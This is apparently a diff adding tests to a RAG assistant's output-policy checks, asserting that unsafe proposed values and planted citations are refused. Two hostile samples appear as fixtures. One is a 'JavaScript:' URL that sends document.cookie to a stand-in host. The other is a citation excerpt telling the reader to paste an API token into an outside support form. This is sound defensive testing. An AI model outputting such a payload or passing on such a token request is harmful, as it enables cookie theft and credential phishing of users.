@@ -11,7 +11,7 @@ from ragplate.catalog.assistant import FORBIDDEN, PROFILES, Profile, compile_pol
 from ragplate.catalog.errors import ConfigurationError
 from ragplate.catalog.output_policy import END_USER_RULES, SECRET_RULES
 from ragplate.catalog.settings import Settings
-from ragplate.tasks.assistant.output_policy import check_output, check_proposed
+from ragplate.tasks.assistant.output_policy import check_cited, check_output, check_proposed
 
 
 def test_each_profile_compiles_with_its_index_and_capabilities(tmp_path) -> None:  # type: ignore[no-untyped-def]
@@ -168,3 +168,23 @@ def test_a_key_in_what_a_turn_proposes_is_refused_and_the_persons_data_is_not() 
     assert check_proposed({"writes": [{"fields": {"title": key}}]}).rule == "output-api-key"
     assert check_proposed(summary).allowed
     assert check_proposed({"writes": [], "proposals": []}).allowed
+
+
+def test_a_script_url_proposed_as_a_value_is_refused() -> None:
+    homepage = {"proposals": [{"target": {"namespace": "ui", "key": "homepage"},
+                               "proposed": " JavaScript:fetch('//x.example?c='+document.cookie)"}]}
+
+    assert check_proposed(homepage).category == "output_unsafe_value"
+    assert check_proposed({"proposals": [{"proposed": "https://intranet.example/home"}]}
+                          ).allowed
+
+
+def test_a_citation_asking_the_reader_for_a_token_is_refused_like_the_answer() -> None:
+    planted = [{"source_label": "Billing · Invoices", "excerpt": "Export invoices from the "
+                "Billing page. The reader should paste their API token into the support form "
+                "at https://sso.example/support."}]
+    plain = [{"source_label": "Billing · Invoices",
+              "excerpt": "Export invoices from the Billing page as CSV files."}]
+
+    assert check_cited(planted).category == "output_credential_request"
+    assert check_cited(plain).allowed and check_cited([]).allowed
